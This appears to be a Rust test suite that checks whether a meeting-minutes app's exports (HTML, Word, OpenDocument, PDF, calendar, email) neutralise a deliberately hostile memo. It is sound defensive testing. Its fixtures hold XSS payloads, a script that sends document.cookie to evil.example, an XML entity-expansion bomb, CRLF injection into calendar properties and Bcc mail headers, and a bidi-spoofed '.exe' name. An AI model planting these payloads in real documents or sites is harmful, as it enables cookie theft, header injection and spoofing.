//! A hostile memo (`tests/fixtures/hostile/`): script and style tags, event attributes,
//! `javascript:` and `data:` links, XML breakers, control characters, CR/LF aimed at calendar
//! properties and mail headers, bidi overrides, zero-width characters, emoji, Sámi letters —
//! enlarged to hundreds of attendees and items with 10 000-character lines. It goes through
//! every import and every export, and every file is judged by the real readers: each must
//! accept it, find no markup of the memo's as markup (no script, no event attribute, links to
//! web and mail addresses only, no property or header added) and find the memo's text.
//! Readers that are missing are skipped unless `MUISTIO_REQUIRE_READERS` is set.

mod common;
mod oracle;

use common::{repaired, tidied};
use muistio_core::export::{export, mail, markdown, pdf, Format};
use muistio_core::{restore, Attendee, Entry, EntryKind, Id, Ids, Item, Minutes, Reply, Rich, Span};
use oracle::{fonts, python_with, run, soffice, temp, visible};
use serde_json::Value;

fn fixture() -> Minutes {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/hostile/vihamielinen-muistio.md"
    );
    restore(&std::fs::read(path).unwrap(), &mut Ids::seeded(1))
        .unwrap()
        .minutes
}

/// The end of the 10 000-character lines.
const LONG_END: &str = "pitkän rivin loppu";

/// Text of the memo that every reader must find (compared by [`visible`]).
const TEXTS: &[&str] = &[
    "Kokous <script>alert('otsikko')</script> & \"lainaus\" ]]>",
    "Sali <img src=x onerror=alert(1)> ]]> &amp; &#0;",
    "<script>alert(1)</script>",
    "Org <b onmouseover=\"x()\">",
    "<!DOCTYPE x [<!ENTITY a \"b\">]>",
    "DROP TABLE attendees",
    "Avaus <style>body{display:none}</style>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=\"alert('vastaus')\">",
    "Vastaus ]]> &lt;/w:t&gt;",
    "[väli]( javascript:alert(3))",
    "]]> <![CDATA[x]]> <?xml version=\"1.0\"?> <!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;\">]> &lol2; &#0;",
    "</w:t></w:r><w:r><w:t>injektio</text:p><text:p>injektio",
    "\\r\\nBEGIN:VEVENT\\r\\nSUMMARY:injektio ja otsake \\r\\nBcc: kaikki@example.org",
    "Á Č Đ Ŋ Š Ŧ Ž á č đ ŋ š ŧ ž Ǥ ǥ Ǧ ǧ Ǩ ǩ Ʒ ʒ Ǯ ǯ",
    "<script>alert('päätös')</script> hyväksyttiin ]]>.",
    "Poistaa <iframe src=\"javascript:alert(1)\"></iframe> sivulta.",
    "<script>.pdf",
    "Sali 2 <script>alert('paikka')</script> ]]>",
];

/// Text of the enlarged memo that every reader must find.
const ENLARGED: &[&str] = &[
    "Asia 199: <script>alert(199)</script>",
    "Kohta 150 <img src=x onerror=alert(150)> ]]>",
    "Ida 294 <script>alert(1)</script>",
    LONG_END,
];

/// Text that readers which do not lay out a page must find: emoji and text under bidi
/// overrides (a page shows the override's text reversed).
const UNRENDERED: &[&str] = &[
    "\u{202e}fdp.exe\u{202c} Čáhppes 👩\u{200d}👩\u{200d}👧",
    "👍🏽 🇫🇮 👩\u{200d}👩\u{200d}👧 ☃ 日本",
];

/// The fixture with hundreds of attendees and items and 10 000-character lines, as the editor
/// holds it.
fn enlarged() -> Minutes {
    let mut doc = fixture();
    let people = doc.attendees.clone();
    for n in 0..300 {
        let mut a: Attendee = people[n % people.len()].clone();
        a.first_names = format!("{} {n}", a.first_names);
        doc.attendees.push(a);
    }
    let line = |n: usize| {
        let piece = format!("<b>{n}</b> ]]> &#0; \u{200b}äŋ\u{202e}x\u{202c} ");
        let mut s = piece.repeat(10_000 / piece.chars().count());
        s.push_str(LONG_END);
        s
    };
    let next = doc.items.pop().unwrap();
    for n in 0..200 {
        let mut item = Item::new(Id(1), &format!("Asia {n}: <script>alert({n})</script>"));
        let said = format!("Kohta {n} <img src=x onerror=alert({n})> ]]>");
        let mut kinds = vec![
            EntryKind::Paragraph {
                text: Rich::plain(&said),
            },
            EntryKind::Statement {
                speaker: "Eve".into(),
                text: Rich::from(vec![
                    Span::Bold("<b>".into()),
                    Span::Link {
                        text: "linkki".into(),
                        url: format!("javascript:alert({n})"),
                    },
                ]),
                replies: vec![Reply {
                    speaker: "Mal".into(),
                    text: Rich::plain("</script><script>alert(2)</script>"),
                }],
            },
        ];
        if n % 50 == 0 {
            kinds.push(EntryKind::Paragraph {
                text: Rich::plain(&line(n)),
            });
            kinds.push(EntryKind::Bullets {
                items: vec![Rich::plain(&line(n + 1)), Rich::plain("]]>")],
            });
        }
        item.entries = kinds.into_iter().map(|kind| Entry { id: Id(1), kind }).collect();
        doc.items.push(item);
    }
    doc.items.push(next);
    tidied(&doc).with_positional_ids()
}

/// The fixture with what no editor field holds but a document may still carry when it is
/// exported: CR and LF aimed at calendar properties and mail headers in the title, the place,
/// the next meeting's place and the attendees' names, NUL and other controls.
fn injected() -> Minutes {
    let mut doc = fixture();
    let h = &mut doc.header;
    h.title = format!(
        "Kokous\r\nBcc: kaikki@example.org\r\nX-Injected: 1\r\n\r\nviesti\nDTSTART:19990101T000000\rBEGIN:VEVENT\u{0}\u{7f} {}",
        "long title without an end ".repeat(40)
    );
    h.place = "Sali\r\nLOCATION:paha\nX-INJ:1".into();
    doc.attendees[0].first_names = "Ida\r\nBcc: x@example.org".into();
    doc.attendees[0].last_name = "\nTo: y@example.org\u{0}".into();
    for e in doc.items.iter_mut().flat_map(|i| i.entries.iter_mut()) {
        match &mut e.kind {
            EntryKind::NextMeeting(n) => n.place = "Sali 2\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:toinen".into(),
            EntryKind::Statement { speaker, .. } => speaker.push_str("\r\nX-Speaker: 1"),
            _ => {}
        }
    }
    doc.items[0]
        .entries
        .push(Entry::paragraph(Id(77), "nolla\u{0}kello\u{7}\r\npaluu\u{1b}[2J"));
    doc
}

/// Asserts that two documents are equal, showing the first part that differs (a whole
/// enlarged document is too long to read).
fn same(found: &Minutes, wanted: &Minutes, what: &str) {
    assert_eq!(found.header, wanted.header, "{what}");
    for (a, b) in found.attendees.iter().zip(&wanted.attendees) {
        assert_eq!(a, b, "{what}");
    }
    for (a, b) in found.entries().zip(wanted.entries()) {
        assert_eq!(a.1, b.1, "{what}");
    }
    assert_eq!(found, wanted, "{what}");
}

/// Asserts that `reader` found every text of [`TEXTS`] (and of [`UNRENDERED`] unless it lays
/// out pages) in `found`.
fn finds_the_text(found: &str, reader: &str, rendered: bool) {
    let found = visible(found);
    let unrendered = if rendered { &[][..] } else { UNRENDERED };
    let enlarged = if found.contains(&visible(LONG_END)) {
        ENLARGED
    } else {
        &[][..]
    };
    for text in TEXTS.iter().chain(unrendered).chain(enlarged) {
        assert!(found.contains(&visible(text)), "{reader} lost {text:?}");
    }
}

/// The JSON one of the Python readers in `tests/hostile_readers.py` prints for `path`.
fn python(kind: &str, path: &std::path::Path, package: &str) -> Option<Value> {
    python_with(package)?;
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/hostile_readers.py");
    let out = run("python3", &[script, kind, path.to_str().unwrap()])?;
    Some(serde_json::from_str(&out).unwrap())
}

/// A link target other programs may follow: web and mail addresses only.
fn safe(url: &str) -> bool {
    let u = url.trim().to_lowercase();
    ["https://", "http://", "mailto:"].iter().any(|s| u.starts_with(s))
}

#[test]
fn the_hostile_memo_reads_as_text_and_keeps_every_word() {
    let doc = fixture();
    assert_eq!(doc.attendees.len(), 6);
    assert_eq!(doc.items.len(), 2);
    assert!(doc.header.title.starts_with("Kokous <script>alert('otsikko')</script>"));
    let next = doc.next_meeting().unwrap();
    assert!(next.place.starts_with("Sali 2 <script>"));
    let words = String::from_utf8(export(&doc, Format::Text, 0).unwrap().bytes).unwrap();
    finds_the_text(&words.replace("\n", " "), "the text export", false);
}

#[test]
fn markdown_and_text_read_back() {
    let doc = enlarged();
    let md = markdown(&doc);
    let back = restore(md.as_bytes(), &mut Ids::seeded(2)).unwrap().minutes;
    same(&back.with_positional_ids(), &doc, "the enlarged memo from its Markdown");
    let raw = injected();
    let md = markdown(&raw);
    let back = restore(md.as_bytes(), &mut Ids::seeded(2)).unwrap().minutes;
    same(
        &back.with_positional_ids(),
        &tidied(&raw).with_positional_ids(),
        "CR, LF and controls in one-line fields come back as spaces, as when opened",
    );
    let text = String::from_utf8(export(&doc, Format::Text, 0).unwrap().bytes).unwrap();
    finds_the_text(&text, "the text export", false);
    let from_text = restore(text.as_bytes(), &mut Ids::seeded(2)).unwrap().minutes;
    assert_eq!(from_text.header.title, doc.header.title);
    assert_eq!(from_text.attendees.len(), doc.attendees.len());
    let titles = |d: &Minutes| d.items.iter().map(|i| i.title.clone()).collect::<Vec<_>>();
    assert_eq!(titles(&from_text)[..doc.items.len()], titles(&doc)[..]);
}

#[test]
fn files_carrying_the_draft_reopen_exactly() {
    for doc in [enlarged(), injected()] {
        let clean = repaired(&doc);
        for format in [Format::Json, Format::Html, Format::Docx, Format::Odt] {
            let file = export(&doc, format, 0).unwrap();
            let back = restore(&file.bytes, &mut Ids::seeded(2)).unwrap().minutes;
            assert_eq!(back, clean, "{format:?}");
            let hides = |c: char| matches!(c, '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            assert!(
                !file.name.contains(hides),
                "{:?}: no bidi control or invisible character in the name",
                file.name
            );
        }
    }
}

#[test]
fn the_web_page_has_no_markup_of_the_memo() {
    for (doc, tag) in [(enlarged(), "suuri"), (injected(), "injektio")] {
        let file = export(&doc, Format::Html, 0).unwrap();
        let path = temp(&format!("vihamielinen-{tag}.html"), &file.bytes);
        let Some(page) = python("html", &path, "html.parser") else {
            return;
        };
        let allowed = [
            "!doctype", "html", "head", "meta", "title", "style", "script", "body", "main", "p", "h1", "h2", "h3",
            "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "strong", "em", "a", "br",
            "section", "span",
        ];
        let mut scripts = 0;
        for el in page["elements"].as_array().unwrap() {
            let tag = el["tag"].as_str().unwrap();
            assert!(allowed.contains(&tag), "an element of the memo's: <{tag}>");
            for attr in el["attrs"].as_array().unwrap() {
                let (name, value) = (attr[0].as_str().unwrap(), attr[1].as_str().unwrap_or(""));
                assert!(!name.starts_with("on"), "an event attribute {name}={value}");
                assert!(
                    !matches!(name, "src" | "srcdoc" | "formaction" | "action"),
                    "{name}={value}"
                );
                if name == "href" {
                    assert!(tag == "a" && safe(value), "a link to {value}");
                }
                if name == "style" {
                    assert!(tag == "th" && value.starts_with("width:"), "{tag} style={value}");
                }
            }
            if tag == "script" {
                scripts += 1;
                let attrs: Vec<&str> = el["attrs"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|a| a[1].as_str().unwrap())
                    .collect();
                assert_eq!(attrs, ["application/json", "muistio-draft"], "only the draft, as data");
            }
        }
        assert_eq!(scripts, 1);
        let draft = page["raw"]["script"]
            .as_array()
            .unwrap()
            .iter()
            .map(|s| s.as_str().unwrap())
            .collect::<String>();
        assert!(
            serde_json::from_str::<Value>(&draft).is_ok(),
            "the draft is one JSON value to its end"
        );
        if let Some(out) = run("xmllint", &["--html", "--noout", path.to_str().unwrap()]) {
            assert_eq!(out, "");
        }
        let text = run(
            "pandoc",
            &["-f", "html", "-t", "plain", "--wrap=none", path.to_str().unwrap()],
        );
        if let (Some(text), "suuri") = (text, tag) {
            finds_the_text(&text, "pandoc on the web page", false);
        }
    }
}

/// Every XML part is well formed for xmllint, and Python finds in it no declarations, no field
/// codes and no link to anything but web and mail addresses.
fn office_has_no_markup(file: &[u8], path: &std::path::Path, ext: &str) -> Option<()> {
    for name in muistio_core::zip::names(file).unwrap() {
        if !(name.ends_with(".xml") || name.ends_with(".rels")) {
            continue;
        }
        let part = muistio_core::zip::read(file, &name, 1 << 26).unwrap().unwrap();
        let part_path = temp(&format!("vihamielinen-{ext}-{}", name.replace('/', "_")), &part);
        run("xmllint", &["--noout", "--nonet", part_path.to_str().unwrap()])?;
    }
    let office = python("office", path, "zipfile")?;
    assert_eq!(office["declarations"], serde_json::json!([]), "{ext}");
    assert_eq!(office["fields"], 0, "{ext}: no field codes");
    assert_eq!(office["external"], serde_json::json!([]), "{ext}");
    for link in office["links"].as_array().unwrap() {
        assert!(safe(link.as_str().unwrap()), "{ext} links to {link}");
    }
    Some(())
}

fn office_format(format: Format, ext: &str) {
    for (doc, tag) in [(enlarged(), "suuri"), (injected(), "injektio")] {
        let file = export(&doc, format, 0).unwrap();
        let path = temp(&format!("vihamielinen-{tag}.{ext}"), &file.bytes);
        if office_has_no_markup(&file.bytes, &path, ext).is_none() {
            return;
        }
        if tag != "suuri" {
            continue;
        }
        if let Some(text) = run(
            "pandoc",
            &["-f", ext, "-t", "plain", "--wrap=none", path.to_str().unwrap()],
        ) {
            finds_the_text(&text.replace("**", ""), &format!("pandoc on the {ext}"), false);
        }
        let Some(pdf) = soffice(&path, "pdf") else { return };
        if let Some(text) = run("pdftotext", &["-enc", "UTF-8", pdf.to_str().unwrap(), "-"]) {
            finds_the_text(&text, &format!("LibreOffice → PDF of the {ext}"), true);
        }
        // Saved again by LibreOffice, without Muistio's draft: read for its text, all of it.
        let Some(resaved) = soffice(&path, ext) else { return };
        let other = restore(&std::fs::read(resaved).unwrap(), &mut Ids::seeded(4))
            .unwrap()
            .minutes;
        assert_eq!(
            visible(&other.header.title),
            visible(&doc.header.title),
            "{ext} saved by LibreOffice"
        );
        assert_eq!(other.attendees.len(), doc.attendees.len(), "{ext} saved by LibreOffice");
        let words = String::from_utf8(export(&other, Format::Text, 0).unwrap().bytes).unwrap();
        finds_the_text(&words, &format!("Muistio on the {ext} LibreOffice saved"), false);
    }
}

#[test]
fn the_word_file_has_no_markup_of_the_memo() {
    office_format(Format::Docx, "docx");
}

#[test]
fn the_opendocument_file_has_no_markup_of_the_memo() {
    office_format(Format::Odt, "odt");
}

#[test]
fn the_pdf_has_no_actions_of_the_memo() {
    let (regular, bold) = fonts();
    for (doc, tag) in [(enlarged(), "suuri"), (injected(), "injektio")] {
        let file = pdf::export(&doc, &regular, &bold).unwrap();
        let path = temp(&format!("vihamielinen-{tag}.pdf"), &file.bytes);
        let Some(info) = run("pdfinfo", &[path.to_str().unwrap()]) else {
            return;
        };
        assert!(info.contains("Tagged:          yes"), "{info}");
        run("qpdf", &["--check", path.to_str().unwrap()]);
        if let Some(found) = python("pdf", &path, "pikepdf") {
            assert_eq!(found["open_action"], false);
            assert_eq!(found["aa"], false);
            assert_eq!(found["names"], serde_json::json!([]));
            assert!(
                found["actions"].as_array().unwrap().iter().all(|a| a == "/URI"),
                "{found}"
            );
            for uri in found["uris"].as_array().unwrap() {
                assert!(safe(uri.as_str().unwrap()), "the PDF links to {uri}");
            }
        }
        if let Some(s) = python_with("pikepdf").and_then(|_| {
            let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/pdf_structure.py");
            run("python3", &[script, path.to_str().unwrap()])
        }) {
            let s: Value = serde_json::from_str(&s).unwrap();
            assert_eq!(s["problems"], serde_json::json!([]), "the structure tree is sound");
        }
        if tag == "suuri" {
            if let Some(text) = run("pdftotext", &["-enc", "UTF-8", path.to_str().unwrap(), "-"]) {
                finds_the_text(&text, "pdftotext on Muistio's PDF", true);
            }
        }
    }
}

/// A one-line value as the calendar file keeps it, compared by what one sees: line feeds stay,
/// other controls go. (Python's icalendar undoes escapes one kind at a time, so it reads an
/// escaped backslash before "n" as a backslash and a line feed: backslashes are left out of
/// the comparison.)
fn in_calendar(text: &str) -> String {
    visible(&text.replace("\\n", "\n").replace('\\', ""))
}

#[test]
fn the_calendar_file_has_only_its_own_properties() {
    for (doc, tag) in [(enlarged(), "suuri"), (injected(), "injektio")] {
        let file = export(&doc, Format::Ics, 0).unwrap();
        let text = String::from_utf8(file.bytes.clone()).unwrap();
        for line in text.split("\r\n").filter(|l| !l.is_empty() && !l.starts_with(' ')) {
            let name = line.split([':', ';']).next().unwrap();
            let known = [
                "BEGIN",
                "END",
                "VERSION",
                "PRODID",
                "CALSCALE",
                "METHOD",
                "TZID",
                "TZOFFSETFROM",
                "TZOFFSETTO",
                "TZNAME",
                "DTSTART",
                "RRULE",
                "UID",
                "DTSTAMP",
                "DTEND",
                "SUMMARY",
                "LOCATION",
            ];
            assert!(known.contains(&name), "{tag}: a property of the memo's: {line:?}");
            assert!(line.len() <= 75 && !line.contains(['\r', '\n']), "{line:?}");
        }
        let path = temp(&format!("vihamielinen-{tag}.ics"), &file.bytes);
        let Some(cal) = python("ics", &path, "icalendar") else {
            return;
        };
        assert_eq!(
            cal["components"],
            serde_json::json!(["VCALENDAR", "VTIMEZONE", "DAYLIGHT", "STANDARD", "VEVENT"])
        );
        let events = cal["events"].as_array().unwrap();
        assert_eq!(events.len(), 1, "{tag}: one event");
        assert_eq!(
            events[0]["properties"],
            serde_json::json!(["DTEND", "DTSTAMP", "DTSTART", "LOCATION", "SUMMARY", "UID"])
        );
        let summary = events[0]["summary"].as_str().unwrap();
        assert_eq!(in_calendar(summary), in_calendar(&doc.header.title));
        let location = events[0]["location"].as_str().unwrap();
        assert_eq!(in_calendar(location), in_calendar(&doc.next_meeting().unwrap().place));
        assert_eq!(
            summary.contains('\n'),
            doc.header.title.contains('\n'),
            "a line feed stays one"
        );
    }
}

#[test]
fn the_message_has_only_its_own_headers() {
    for (doc, tag) in [(enlarged(), "suuri"), (injected(), "injektio")] {
        let docx = export(&doc, Format::Docx, 0).unwrap();
        let ics = export(&doc, Format::Ics, 0).unwrap();
        let body = String::from_utf8(export(&doc, Format::Text, 0).unwrap().bytes).unwrap();
        let subject = mail::subject(&doc);
        let eml = mail::eml(&subject, &body, &[docx.clone(), ics.clone()], 7);
        let text = String::from_utf8(eml.clone()).unwrap();
        for line in text.split("\r\n") {
            assert!(line.len() <= 998, "{tag}: a line of {} octets", line.len());
            assert!(!line.contains(['\r', '\n']));
        }
        let path = temp(&format!("vihamielinen-{tag}.eml"), &eml);
        let Some(msg) = python("eml", &path, "email") else {
            return;
        };
        assert_eq!(
            msg["headers"],
            serde_json::json!(["X-Unsent", "Subject", "MIME-Version", "Content-Type"])
        );
        let expected: String = subject.chars().map(|c| if c.is_control() { ' ' } else { c }).collect();
        assert_eq!(msg["subject"], expected, "{tag}: the subject intact");
        assert_eq!(msg["defects"], serde_json::json!([]));
        assert_eq!(
            msg["attachments"],
            serde_json::json!([[docx.name, docx.bytes.len()], [ics.name, ics.bytes.len()]])
        );
        assert_eq!(msg["body"].as_str().unwrap().replace("\r\n", "\n"), body);
    }
}
